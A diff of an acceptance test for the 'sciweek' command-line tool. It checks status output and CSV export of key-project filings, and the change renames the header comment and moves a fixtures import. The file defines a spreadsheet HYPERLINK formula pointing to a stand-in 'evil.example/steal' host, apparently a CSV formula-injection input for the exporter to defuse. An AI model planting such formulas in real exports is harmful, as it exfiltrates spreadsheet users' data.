@@ -1,5 +1,5 @@
 /**
- * Issue 9 acceptance — `sciweek status [--json]` and `sciweek export --format csv --form key-project
+ * Acceptance — `sciweek status [--json]` and `sciweek export --format csv --form key-project
  * --out FILE` as child processes (node bin/sciweek.js) on a DATA_DIR whose SQLite store was seeded
  * through the store API (filings via commit, a withdrawn one among them, declarations) and closed. The
  * status is the matrix as seeded; the CSV holds the key projects only, with a BOM, and a cell a user
@@ -13,7 +13,7 @@ import { createSqliteStore } from '../../src/store/sqlite-store.js';
 import type { FilingWrite } from '../../src/store/store.js';
 import { makeDataDir, runSciweek } from '../support/console-process.js';
 import { event } from '../support/engine-harness.js';
-import { declaration, exhibitorFiling, keyProjectFiling, summaryReportFiling } from '../unit/export/fixtures.js';
+import { declaration, exhibitorFiling, keyProjectFiling, summaryReportFiling } from '../support/sample-filings.js';
 import { parseCsv } from '../support/csv.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d=1","点击查看")';
